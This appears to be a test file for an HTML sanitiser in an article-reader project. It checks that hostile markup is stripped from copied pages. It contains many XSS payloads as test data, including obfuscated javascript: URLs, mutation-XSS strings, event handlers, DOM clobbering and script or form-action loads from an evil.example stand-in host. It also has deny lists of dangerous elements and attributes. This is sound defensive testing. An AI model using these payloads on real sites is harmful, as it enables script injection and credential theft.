import { Gate } from '../../src/article/gate.ts';
import { ATTRIBUTES, DROPPED, ELEMENTS, GLOBAL_ATTRIBUTES } from '../../src/article/gate-lists.ts';
import { copyPage } from '../../src/article/page-copy.ts';
import { ADDRESS, pageOf } from '../support/page.ts';

const HTML = 'http://www.w3.org/1999/xhtml';
const SVG = 'http://www.w3.org/2000/svg';
const MATH = 'http://www.w3.org/1998/Math/MathML';

/** Attributes that hold one address, and the schemes that each may have. */
const SCHEMES: Record<string, RegExp> = {
  href: /^(https?|mailto|tel):$/,
  cite: /^(https?|mailto|tel):$/,
  src: /^https?:$/,
  poster: /^https?:$/,
};

/** What is wrong with a tree that came through, by a walk over every element and attribute. */
function faultsOf(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName;
    const faults = ELEMENTS.has(name) && element.namespaceURI === HTML ? [] : [`element ${name}`];
    const allowed = [...GLOBAL_ATTRIBUTES, ...(ATTRIBUTES[name] ?? [])];
    for (const { name: attribute, value } of element.attributes) {
      const isOwnId = attribute === 'id' && /^lectern-\d+$/.test(value);
      if (!isOwnId && !allowed.includes(attribute)) faults.push(`attribute ${attribute} of ${name}`);
      if (!isSafe(attribute, value, name)) faults.push(`${attribute}="${value}"`);
    }
    return faults;
  });
}

function isSafe(attribute: string, value: string, element: string): boolean {
  if (attribute === 'srcset') return value.split(', ').every((entry) => /^https:\/\/\S+( [\d.]+[xw])?$/.test(entry));
  const schemes = SCHEMES[attribute];
  if (!schemes || (attribute === 'href' && /^#lectern-\d+$/.test(value))) return true;
  if (element === 'img' && /^data:image\/(png|gif|jpeg|webp|avif);base64,[\w+/=]*$/.test(value)) return true;
  return schemes.test(new URL(value).protocol);
}

function through(page: Document): HTMLElement {
  const copy = copyPage(page);
  if (!copy) throw new Error('The page was too large.');
  return new Gate(copy, ADDRESS).let(copy.document.body);
}

/** Links as hostile pages write them: odd white space, case, entities, controls. */
const LINKS = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  '&#1;javascript:alert(1)',
  'jAvAsCrIpT:alert(1)',
  'java&#10;script:alert(1)',
  'java&#9;script&#13;:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/alert(1)',
  'vbscript:msgbox(1)',
  'VBSCRIPT&#58;msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  ' data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:application/xhtml+xml,<html/>',
  'blob:https://paper.example/x',
  'file:///etc/passwd',
  'filesystem:https://paper.example/x',
  'view-source:javascript:alert(1)',
  'intent://x#Intent;scheme=javascript;end',
];

/** Where an address can stand. */
const CARRIERS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href="${address}" ping="${address}" target="_blank" referrerpolicy="unsafe-url" download>x</a>`,
  (address) => `<img src="${address}" longdesc="${address}" lowsrc="${address}" dynsrc="${address}">`,
  (address) => `<img src="/a.jpg" srcset="${address} 1x, /b.jpg 2x">`,
  (address) => `<img src="/a.jpg" srcset="/b.jpg 1x,${address} 2x">`,
  (address) => `<picture><source srcset="${address}"><img src="/a.jpg"></picture>`,
  (address) => `<video src="${address}" poster="${address}"><source src="${address}"><track src="${address}">x</video>`,
  (address) => `<audio src="${address}">x</audio>`,
  (address) => `<blockquote cite="${address}"><q cite="${address}">x</q><del cite="${address}">x</del></blockquote>`,
  (address) => `<table background="${address}"><tbody><tr><td background="${address}">x</td></tr></tbody></table>`,
  (address) =>
    `<form action="${address}"><button formaction="${address}">x</button><input type="image" src="${address}"></form>`,
  (address) => `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}">x</object>`,
  (address) =>
    `<base href="${address}"><link rel="stylesheet" href="${address}"><meta http-equiv="refresh" content="0;url=${address}">`,
  (address) =>
    `<svg><a xlink:href="${address}" href="${address}"><text>x</text></a><image href="${address}"/><use href="${address}"/></svg>`,
  (address) => `<math href="${address}" xlink:href="${address}"><mi xlink:href="${address}">x</mi></math>`,
  (address) => `<p style="background:url(${address})">x</p>`,
  (address) => `<body background="${address}">x`,
];

/** Whole attacks, each of a kind of its own. */
const ATTACKS: Record<string, string> = {
  script: '<p>x<script>alert(1)</script></p><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script of another kind':
    '<script type="text/template"><p>x</p></script><script type="application/ld+json">{}</script>',
  'event handlers':
    '<p onclick="a()" ONMOUSEOVER=a() onfocus="a()" autofocus tabindex="1">x</p><img src="/a.jpg" onerror="a()" onload="a()">',
  'handlers on media':
    '<video src="/v.mp4" autoplay onplay="a()" controls></video><audio src="/a.mp3" autoplay oncanplay="a()"></audio><details open ontoggle="a()"><summary>x</summary>y</details>',
  'handlers without space': '<img/src="/a.jpg"/onerror="a()"/x="',
  srcdoc: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'style sheets':
    '<style>@import "//evil.example/x.css";</style><link rel="stylesheet" href="//evil.example/x.css"><p style="position:fixed;inset:0" class="evil">x</p>',
  'base and refresh':
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><a href="x">x</a>',
  forms:
    '<form action="//evil.example/"><input name="password" type="password"><textarea>x</textarea><select><option>x</option></select><button formaction="javascript:a()">x</button></form>',
  'svg with script':
    '<svg><script>alert(1)</script><style>x</style><foreignObject><p onclick="a()">x</p><iframe src="javascript:a()"></iframe></foreignObject></svg>',
  'svg animation':
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a><set attributeName="onmouseover" to="a()"/></svg>',
  'svg title': '<svg><title><style><img src="</style><img src=x onerror=a()>"></title></svg>',
  'math and mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a()&gt;">',
  'form in math': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=a()>',
  annotation:
    '<math><annotation-xml encoding="text/html"><script>a()</script><p onclick="a()">x</p></annotation-xml></math>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=a()>">x</p></noscript>',
  'raw text elements':
    '<xmp><p title="</xmp><img src=x onerror=a()>"></xmp><noembed><img src=x onerror=a()></noembed><plaintext><img src=x onerror=a()>',
  template: '<template><script>a()</script></template><template shadowrootmode="open"><script>a()</script></template>',
  'comment mutation': '<!--><img src=x onerror=a()>--><p>x</p><![CDATA[<img src=x onerror=a()>]]>',
  'attribute mutation':
    '<p title="`><img src=x onerror=a()>`">x</p><a title="&quot;&gt;&lt;script&gt;a()&lt;/script&gt;" href="/x">x</a>',
  'nested tables':
    '<table><caption><table><caption><svg><title><table><caption></svg><img src=x onerror=a()></caption></table>',
  clobbering:
    '<form id="document" name="body"><input id="attributes" name="parentNode"></form><img name="getElementById" src="/a.jpg"><a id="location" name="cookie" href="/x">x</a><p id="lectern-0" name="y">x</p>',
  'frames and plugins':
    '<frameset><frame src="javascript:a()"></frameset><applet code="x">x</applet><object data="x.swf"><param name="movie" value="x">x</object><embed src="x.swf"><portal src="/x"></portal>',
  'custom elements':
    '<evil-element onconnected="a()" is="x-y"><p is="evil-p" part="x" slot="y">x</p></evil-element><button is="evil-button">x</button>',
  'popovers and commands':
    '<p popover id="x">x</p><button popovertarget="x" commandfor="x" command="show-popover">x</button><dialog open>x</dialog>',
  'editing and data':
    '<p contenteditable accesskey="x" draggable="true" data-x="y" aria-hidden="true" hidden inert nonce="n" itemprop="p">x</p>',
  'a declared document type': '<?xml-stylesheet href="javascript:a()"?><!DOCTYPE x [<!ENTITY y "z">]><p>x</p>',
};

describe.each(LINKS)('the address %s', (address) => {
  test('comes through nowhere', () => {
    for (const carrier of CARRIERS) {
      const body = through(pageOf(`<p>text</p>${carrier(address)}`));
      expect(faultsOf(body)).toEqual([]);
      for (const element of body.querySelectorAll('[href]')) expect(element.getAttribute('href')).toMatch(/^https?:/);
    }
  });
});

test.each(Object.entries(ATTACKS))('nothing of %s comes through but text and what is allowed', (_name, html) => {
  for (const page of [pageOf(html), pageOf(`<div><div>${html}`), pageOf(`<ul><li>${html}</ul>`), pageOf('', html)]) {
    const body = through(page);
    expect(faultsOf(body)).toEqual([]);
    // What would come of it if it were ever written as markup and parsed again: nothing more.
    const again = pageOf(body.innerHTML).body;
    expect(faultsOf(again)).toEqual([]);
    expect(again.innerHTML).toBe(body.innerHTML);
  }
});

describe('elements that no parser makes', () => {
  const made: Record<string, (page: Document) => Element> = {
    'a script of SVG': (page) => page.createElementNS(SVG, 'script'),
    'a script in capitals': (page) => page.createElementNS(HTML, 'SCRIPT'),
    'an iframe of MathML': (page) => page.createElementNS(MATH, 'iframe'),
    'an element with a prefix': (page) => page.createElementNS(HTML, 'x:script'),
    'a link of SVG': (page) => page.createElementNS(SVG, 'a'),
    'a paragraph of MathML': (page) => page.createElementNS(MATH, 'p'),
    'a picture of no namespace': (page) => page.createElementNS(null, 'img'),
  };

  test.each(Object.entries(made))('%s brings nothing but its text', (_name, make) => {
    const page = pageOf('<p>text</p>');
    const element = make(page);
    element.setAttribute('onload', 'a()');
    element.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', 'javascript:a()');
    element.setAttribute('href', 'javascript:a()');
    element.setAttribute('src', 'javascript:a()');
    element.append('x');
    page.body.append(element);
    expect(faultsOf(through(page))).toEqual([]);
  });

  test('attributes of a namespace or in capitals do not stand for allowed ones', () => {
    const page = pageOf('<p><a>x</a></p>');
    const link = page.querySelector('a') as Element;
    link.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', 'https://evil.example/');
    link.setAttributeNS('urn:x', 'HREF', 'javascript:a()');
    expect(through(page).innerHTML).toBe('<p><a>x</a></p>');
  });
});

describe('the lists themselves', () => {
  const NEVER =
    'script style link meta base iframe frame object embed applet svg math form input button textarea select template noscript dialog portal canvas span div'.split(
      ' ',
    );
  const NEVER_ATTRIBUTE =
    /^(on.*|style|class|id|name|srcdoc|ping|target|rel|referrerpolicy|action|formaction|background|is|slot|part|nonce|autofocus|autoplay|tabindex|xlink:.*|data-.*)$/;

  test('hold no element that runs, frames, styles or sends', () => {
    expect(NEVER.filter((name) => ELEMENTS.has(name))).toEqual([]);
    expect([...DROPPED].filter((name) => ELEMENTS.has(name))).toEqual([]);
  });

  test('hold no attribute that runs, styles, names or tells', () => {
    const attributes = [...GLOBAL_ATTRIBUTES, ...Object.values(ATTRIBUTES).flat()];
    expect(attributes.filter((name) => NEVER_ATTRIBUTE.test(name))).toEqual([]);
  });

  test('name attributes of allowed elements alone', () => {
    expect(Object.keys(ATTRIBUTES).filter((name) => !ELEMENTS.has(name))).toEqual([]);
  });
});
